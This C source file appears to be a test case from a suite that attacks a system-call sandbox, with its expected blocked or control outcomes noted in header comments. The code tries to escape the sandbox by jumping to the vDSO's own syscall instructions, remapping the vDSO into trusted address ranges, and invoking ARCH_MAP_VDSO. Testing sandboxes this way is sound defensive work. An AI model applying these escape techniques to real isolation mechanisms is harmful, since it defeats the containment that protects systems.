/* SPDX-License-Identifier: MIT */
/*
 * f12, g02: moves the vDSO, which has `syscall` instructions of its own, to where
 * calls are trusted; maps a fresh one; makes forbidden calls from it.
 */
/* Isolation: any */
/* Blocked: 0 | 125 */
/* Control: 42 */
#include "attack.h"

#include <sys/auxv.h>

static void moved(uint64_t to, uint64_t vdso)
{
	long ret = raw(SYS_mremap, vdso, 2 * PAGE, 2 * PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, to);

	if (ret == (long)to)
		succeeded("the vDSO was moved to %#lx", (unsigned long)to);
}

static void use(void *arg)
{
	const uint8_t *p = arg;

	for (size_t i = 0; i < 2 * PAGE - 2; i++) {
		struct jump_regs r = {.rax = SYS_userfaultfd,
				      .rdi = 1,
				      .rip = (uint64_t)p + i,
				      .rsp = (uint64_t)pages(4) + 2 * PAGE};

		if (memcmp(p + i, "\x0f\x05", 2) != 0 || !env.full)
			continue;
		jump_all(&r);
	}
}

void attack(void)
{
	uint64_t vdso = getauxval(AT_SYSINFO_EHDR);

	if (!vdso)
		missing("no vDSO");
	(void)in_child(use, (void *)vdso);
	for (long op = 0x2001; op <= 0x2003; op++)
		for (long bit = 0; bit < 64; bit += 33)
			if (raw(SYS_arch_prctl, bit ? op | 1l << bit : op, GATE_GUARD) > 0 ||
			    raw(SYS_arch_prctl, bit ? op | 1l << bit : op, LOADER_BASE - PAGE) > 0)
				succeeded("ARCH_MAP_VDSO");
	moved(GATE_GUARD, vdso);
	moved(LOADER_BASE, vdso);
	moved(env.control ? (uint64_t)pages(4) : LOADER_END - 2 * PAGE, vdso);
}
